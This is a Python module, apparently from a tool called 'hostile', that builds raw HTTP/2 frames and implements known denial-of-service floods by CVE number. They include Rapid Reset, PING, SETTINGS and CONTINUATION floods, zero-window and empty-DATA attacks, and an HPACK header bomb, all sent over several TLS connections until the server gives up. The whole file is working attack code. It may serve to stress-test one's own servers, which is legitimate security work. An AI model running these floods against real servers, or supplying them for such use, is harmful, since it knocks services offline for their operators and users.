"""Floods: frames of HTTP/2 that cost little to send, and much to heed."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Iterable
from contextlib import suppress

from hostile.target import Met, Target, crowd, met_by, secure


async def closed_windows(target: Target) -> Met:
    """Large answers for which there is never any room (CVE-2019-9517)."""
    asked = b"".join(_frame(1, 5, number, _request(target, path=b"/large")) for number in range(1, 41, 2))
    return await flood(target, [_frame(4, 0, 0, b"\0\x04\0\0\0\0") + asked], of=8)


async def pings(target: Target) -> Met:
    """PING without an end (CVE-2019-9512)."""
    return await flood(target, [_frame(6, 0, 0, bytes(8)) * 100] * 500)


async def settings(target: Target) -> Met:
    """SETTINGS without an end (CVE-2019-9515)."""
    return await flood(target, [_frame(4, 0, 0, b"\0\x04\0\0\xff\xff") * 100] * 500)


async def empty_data(target: Target) -> Met:
    """DATA without data (CVE-2019-9518)."""
    begun = _frame(1, 4, 1, _request(target, b"\x83"))
    return await flood(target, [begun, *[_frame(0, 0, 1) * 100] * 500])


async def rapid_resets(target: Target) -> Met:
    """Requests that are taken back at once (CVE-2023-44487)."""
    head = _request(target)
    pairs = (_frame(1, 5, number, head) + _frame(3, 0, number, b"\0\0\0\x08") for number in range(1, 40_000, 2))
    return await flood(target, list(_joined(pairs)))


async def resets_made(target: Target) -> Met:
    """Requests that make the router reset them (CVE-2025-8671)."""
    head = _request(target)
    pairs = (_frame(1, 5, number, head) + _frame(8, 0, number, bytes(4)) for number in range(1, 40_000, 2))
    return await flood(target, list(_joined(pairs)))


async def continuations(target: Target) -> Met:
    """A head in pieces without an end (CVE-2024-27316)."""
    return await flood(target, [_frame(1, 1, 1, _request(target)), *[_frame(9, 0, 1, b"\0\x01x\x01y") * 100] * 500])


async def small_windows(target: Target) -> Met:
    """Windows that grow by a byte (CVE-2019-9511)."""
    return await flood(target, [_frame(8, 0, 0, b"\0\0\0\x01") * 100] * 500)


async def packed_heads(target: Target) -> Met:
    """A field of 4 KB, said once and meant a thousand times in each head (CVE-2016-6581)."""
    big = b"\x40\x01x\x7f" + _integer(3900 - 127) + b"y" * 3900
    heads = [_request(target) + big, *[_request(target) + b"\xbe" * 1000] * 200]
    return await flood(target, [_frame(1, 5, 2 * number + 1, head) for number, head in enumerate(heads)])


async def flood(target: Target, pieces: Iterable[bytes], *, of: int = 4) -> Met:
    """Say these frames on a few connections of HTTP/2 until the router closes them."""

    async def once() -> str:
        reader, writer = await secure(target)
        meeting = asyncio.create_task(met_by(reader))
        with suppress(ConnectionError):
            for piece in (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0), *pieces):
                writer.write(piece)
                await writer.drain()
        met = await meeting
        writer.transport.abort()
        return met

    return await crowd(target, once, of=of)


def _joined(pieces: Iterable[bytes], at_once: int = 100) -> Iterable[bytes]:
    batch: list[bytes] = []
    for piece in pieces:
        batch.append(piece)
        if len(batch) == at_once:
            yield b"".join(batch)
            batch = []
    yield b"".join(batch)


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">HBBBI", len(payload) >> 8, len(payload) & 255, kind, flags, stream) + payload


def _request(target: Target, method: bytes = b"\x82", path: bytes = b"/") -> bytes:
    """A packed head, by the table of RFC 7541, appendix A, and without Huffman's code."""
    host = target.host.encode()
    return method + b"\x87\x04" + bytes((len(path),)) + path + b"\x01" + bytes((len(host),)) + host


def _integer(rest: int) -> bytes:
    """What follows a prefix that is full (RFC 7541, 5.1)."""
    made = bytearray()
    while rest >= 128:
        made.append(rest % 128 + 128)
        rest //= 128
    return bytes((*made, rest))
